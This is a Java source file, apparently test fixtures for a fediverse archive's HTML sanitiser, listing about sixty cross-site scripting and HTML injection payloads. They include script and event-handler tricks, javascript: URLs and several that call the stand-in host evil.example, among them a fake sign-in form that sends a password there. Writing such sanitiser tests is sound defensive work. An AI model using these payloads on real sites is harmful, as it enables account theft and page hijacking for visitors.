package org.fediferry.archive;

import java.util.List;

/** What somebody could write into a post so that a page which shows it does something. Each sets {@code window.attacked}. */
public final class Attacks {

    private static final String RUN = "window.attacked=1";

    private Attacks() {}

    public static final List<String> ALL = List.of(
            "<script>" + RUN + "</script>",
            "<ScRiPt src=https://evil.example/x.js></sCrIpT>",
            "<script/src=data:text/javascript," + RUN + "></script>",
            "<scr<script>ipt>" + RUN + "</scr</script>ipt>",
            "<img src=x onerror=" + RUN + ">",
            "<img src=https://evil.example/pixel.gif width=1 height=1>",
            "<img srcset='https://evil.example/pixel.gif 1x'>",
            "<image src=x onerror=" + RUN + ">",
            "<svg onload=" + RUN + ">",
            "<svg><script>" + RUN + "</script></svg>",
            "<svg><animate onbegin=" + RUN + " attributeName=x dur=1s>",
            "<svg><a xlink:href=javascript:" + RUN + "><text>x</text></a></svg>",
            "<svg><use href='data:image/svg+xml,<svg onload=" + RUN + ">'/></svg>",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=" + RUN
                    + "&gt;\">",
            "<math href=javascript:" + RUN + ">x</math>",
            "<noscript><p title=\"</noscript><img src=x onerror=" + RUN + ">\">",
            "<a href=\"javascript:" + RUN + "\">x</a>",
            "<a href=\" java\nscript:" + RUN + "\">x</a>",
            "<a href=\"&#106;avascript:" + RUN + "\">x</a>",
            "<a href=\"\u0001javascript:" + RUN + "\">x</a>",
            "<a href=\"data:text/html,<script>" + RUN + "</script>\">x</a>",
            "<a href=\"vbscript:msgbox(1)\">x</a>",
            "<a href=\"file:///etc/passwd\">x</a>",
            "<a href=\"//evil.example/x\" ping=\"https://evil.example/ping\" target=_top>x</a>",
            "<a href=\"https://good.example\" onclick=\"" + RUN
                    + "\" style=\"position:fixed;inset:0\" class=top id=found>x</a>",
            "<iframe src=\"https://evil.example/\"></iframe>",
            "<iframe srcdoc=\"<script>parent." + RUN + "</script>\"></iframe>",
            "<object data=\"https://evil.example/x.swf\"></object>",
            "<embed src=\"data:text/html,<script>" + RUN + "</script>\">",
            "<form action=\"https://evil.example/\"><input name=password><button>Sign in</button></form>",
            "<button formaction=javascript:" + RUN + ">x</button>",
            "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
            "<base href=\"https://evil.example/\">",
            "<link rel=stylesheet href=https://evil.example/x.css>",
            "<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
            "<p style=\"background:url(https://evil.example/x.png)\">x</p>",
            "<div style=\"position:fixed;inset:0;z-index:99\">x</div>",
            "<video autoplay src=https://evil.example/x.mp4 onloadstart=" + RUN + "></video>",
            "<audio src=x onerror=" + RUN + "></audio>",
            "<video><source onerror=" + RUN + "></video>",
            "<details open ontoggle=" + RUN + ">x</details>",
            "<body onload=" + RUN + ">",
            "<input autofocus onfocus=" + RUN + ">",
            "<select autofocus onfocus=" + RUN + "></select>",
            "<textarea></textarea><script>" + RUN + "</script>",
            "<marquee onstart=" + RUN + ">x</marquee>",
            "<template><script>" + RUN + "</script></template>",
            "<xmp><p title=\"</xmp><script>" + RUN + "</script>\">",
            "<p id=\"list\" name=\"words\">x</p>",
            "</div></article></main><script>" + RUN + "</script>",
            "<!--><script>" + RUN + "</script>-->",
            "<![CDATA[<script>" + RUN + "</script>]]>",
            "<title></title><script>" + RUN + "</script>",
            "<frameset onload=" + RUN + "><frame src=https://evil.example></frameset>",
            "<dialog open onclose=" + RUN + ">x</dialog>",
            "<p onmouseover=" + RUN + " onanimationstart=" + RUN + ">x</p>",
            "<portal src=https://evil.example>",
            "<table background=https://evil.example/x.png><tr><td>x</table>",
            "\u2028</script><script>" + RUN + "</script>",
            "${7*7} $unsafe{1} {{constructor.constructor('" + RUN + "')()}}");
}
